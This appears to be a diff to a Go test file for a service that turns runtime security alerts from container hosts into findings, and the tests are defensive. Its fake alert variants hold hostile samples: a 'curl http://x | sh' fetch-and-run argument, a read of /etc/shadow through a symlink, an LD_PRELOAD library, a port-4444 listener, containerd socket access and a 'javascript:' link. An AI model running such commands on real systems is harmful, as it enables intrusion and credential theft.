@@ -45,39 +45,110 @@ func sample(t *testing.T, name string) *alert.Alert {
 	return a
 }
 
+// variants are what a node may tell that the shell of testdata/shell.alert.json is not.
+var variants = map[string]func(*alert.Alert){
+	"host_file_read": func(a *alert.Alert) {
+		a.Rule = &alert.Rule{Name: "sensitive_file_read", Title: "Sensitive file read", Attack: []string{"T1003.008", "T1552.001"}}
+		a.Container, a.Pod, a.Cluster = nil, nil, nil
+		a.Files = []*alert.File{{Path: "/tmp/link", RealPath: "/etc/shadow", Operation: alert.Alert_File_READ}}
+	},
+	"rename": func(a *alert.Alert) {
+		a.Files = []*alert.File{
+			{Path: "/usr/bin/ls", RealPath: "/usr/bin/ls", FsPath: "/merged/usr/bin/ls", Operation: alert.Alert_File_RENAME},
+			{Path: "/tmp/\"quoted\" & <b>", Operation: alert.Alert_File_RENAME},
+		}
+	},
+	"chmod": func(a *alert.Alert) { // an operation that there is no word for
+		a.Files = []*alert.File{{Path: "/bin/su", RealPath: "/bin/su", Operation: alert.Alert_File_CHANGE_MODE}}
+	},
+	"memfd_exec": func(a *alert.Alert) {
+		a.Rule.Attack = []string{"T1620", "T1059"}
+		a.Process.ExePath, a.Process.ExeMemfd, a.Process.Args = "memfd:x (deleted)", true, []string{"-c", "id && curl http://x | sh"}
+		a.Process.ArgsTruncated = true
+		a.Process.Env = []string{"LD_PRELOAD=/tmp/x.so", "EMPTY=", "NOVALUE"}
+		a.Ancestors = append(a.Ancestors, &alert.Process{Pid: 1, Name: "systemd", ExePath: "/usr/lib/systemd/systemd", Args: []string{"--system"}})
+	},
+	"outbound_udp": func(a *alert.Alert) {
+		a.Rule.Attack = []string{"T1071.004"}
+		a.Connection = &alert.Connection{Protocol: "udp", LocalIp: "10.1.2.3", LocalPort: 40000, RemoteIp: "10.8.0.7", RemotePort: 53,
+			AskedIp: "10.96.0.10", AskedPort: 53, Role: alert.Alert_Connection_CLIENT}
+	},
+	"inbound_tcp": func(a *alert.Alert) {
+		a.Connection = &alert.Connection{Protocol: "tcp", LocalIp: "fd00::1", LocalPort: 22, RemoteIp: "2001:db8::5", RemotePort: 51000, Role: alert.Alert_Connection_SERVER}
+	},
+	"listening": func(a *alert.Alert) {
+		a.Connection = &alert.Connection{Protocol: "tcp", LocalIp: "0.0.0.0", LocalPort: 4444, Role: alert.Alert_Connection_SERVER}
+	},
+	"unix_socket": func(a *alert.Alert) {
+		a.Rule.Attack = []string{"T1610"}
+		a.Connection = &alert.Connection{Protocol: "unix", UnixPath: "/run/containerd/containerd.sock"}
+	},
+	"no_technique": func(a *alert.Alert) {
+		a.Severity, a.Rule.Attack, a.Rule.Title, a.Rule.Description, a.Output = alert.Low, nil, "", "", ""
+	},
+	"unknown_technique": func(a *alert.Alert) { a.Severity, a.Rule.Attack = alert.Medium, []string{"T1014", "T1622"} },
+	"unverified": func(a *alert.Alert) {
+		a.Enrichment = &alert.Enrichment{Verification: alert.Alert_Enrichment_UNVERIFIED, VerificationReason: "project acme has no cluster prod in europe-west1",
+			Missing: []string{"owners: the cluster is not known"}, Links: []*alert.Link{{Title: "bad", Url: "javascript:alert(1)"}}}
+	},
+	"incomplete_container": func(a *alert.Alert) {
+		a.Container = &alert.Container{Id: a.Container.Id, Incomplete: true, Privileged: true}
+		a.Pod = nil
+		a.Process = &alert.Process{Pid: 7, Partial: true}
+		a.Ancestors = nil
+	},
+}
+
 func TestFindings(t *testing.T) {
+	alerts := make(map[string]*alert.Alert)
 	paths, _ := filepath.Glob("testdata/*.alert.json")
-	if len(paths) < 3 {
-		t.Fatalf("%d samples", len(paths))
-	}
 	for _, path := range paths {
 		name := strings.TrimSuffix(filepath.Base(path), ".alert.json")
-		got := Finding(sample(t, name), twoT, now)
-		golden := filepath.Join("testdata", name+".finding.json")
-		if *update {
-			text, err := protojson.Marshal(got)
-			if err != nil {
-				t.Fatal(err)
-			}
-			var out bytes.Buffer
-			json.Indent(&out, text, "", "  ")
-			out.WriteByte('\n')
-			if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
-				t.Fatal(err)
-			}
+		alerts[name] = sample(t, name)
+	}
+	if len(alerts) < 3 {
+		t.Fatalf("%d samples", len(alerts))
+	}
+	for name, change := range variants {
+		alerts[name] = sample(t, "shell")
+		change(alerts[name])
+		if err := alert.Validate(alerts[name]); err != nil {
+			t.Errorf("%s: %v", name, err)
 		}
-		text, err := os.ReadFile(golden)
-		if err != nil {
-			t.Fatal(err)
-		}
-		want := new(pb.Finding)
-		if err := protojson.Unmarshal(text, want); err != nil {
-			t.Fatalf("%s: %v", golden, err)
-		}
-		if d := cmp.Diff(want, got, protocmp.Transform()); d != "" {
+	}
+	for name, a := range alerts {
+		got := Finding(a, twoT, now)
+		if d := cmp.Diff(golden(t, name, got), got, protocmp.Transform()); d != "" {
 			t.Errorf("%s (-want +got):\n%s", name, d)
 		}
 	}
+}
+
+// golden reads the finding of testdata, which it writes first if asked to.
+func golden(t *testing.T, name string, got *pb.Finding) *pb.Finding {
+	t.Helper()
+	path := filepath.Join("testdata", name+".finding.json")
+	if *update {
+		text, err := protojson.Marshal(got)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out bytes.Buffer
+		json.Indent(&out, text, "", "  ")
+		out.WriteByte('\n')
+		if err := os.WriteFile(path, out.Bytes(), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	text, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := new(pb.Finding)
+	if err := protojson.Unmarshal(text, want); err != nil {
+		t.Fatalf("%s: %v", path, err)
+	}
+	return want
 }
 
 func TestAttack(t *testing.T) {
@@ -138,7 +209,6 @@ func TestID(t *testing.T) {
 		"the cluster":  func(a *alert.Alert) { a.Cluster.Name = "other" },
 		"the project":  func(a *alert.Alert) { a.Cluster.Project = "other" },
 		"a moved part": func(a *alert.Alert) { a.Cluster.Project, a.Cluster.Location = a.Cluster.Project+"/x", "" },
-		"its uid":      func(a *alert.Alert) { a.Enrichment = &alert.Enrichment{ClusterUid: "u"} },
 	} {
 		b := proto.CloneOf(a)
 		if change(b); ID(b) == id {
@@ -147,8 +217,9 @@ func TestID(t *testing.T) {
 	}
 	b := proto.CloneOf(a)
 	b.Seq, b.AlertId, b.Time = 99, "x", "y"
+	b.Enrichment = &alert.Enrichment{ClusterUid: "u", ClusterResource: "//r"}
 	if ID(b) != id {
-		t.Error("a repeat has another id")
+		t.Error("a repeat, or the same alert with more known of it, has another id")
 	}
 }
 
@@ -167,6 +238,11 @@ func TestAnyAlertGivesALegalFinding(t *testing.T) {
 		a.Ancestors = append(a.Ancestors, a.Process)
 		a.Files = append(a.Files, &alert.File{Path: hostile})
 	}
+	a.Rule.Name, a.SensorId, a.SensorVersion, a.Rule.Tags = hostile, hostile, hostile, []string{hostile}
+	a.Container.Name, a.Container.ImageRepository, a.Pod.Name, a.Pod.Namespace, a.Cluster.Name = hostile, hostile, hostile, hostile, hostile
+	a.Enrichment = &alert.Enrichment{NodeResource: hostile, ClusterResource: hostile, NodePool: hostile, NextSteps: hostile,
+		Missing: []string{hostile}, ReleaseChannel: hostile, ControlPlaneVersion: hostile, VerificationReason: hostile,
+		Links: []*alert.Link{{Url: "https://x/" + hostile}}, Services: []*alert.Service{{Name: hostile}}}
 	f := Finding(a, Counted{Events: 1, First: now, Last: now.Add(time.Hour)}, now)
 	if n := proto.Size(f); n > maxFinding {
 		t.Errorf("%d bytes", n)
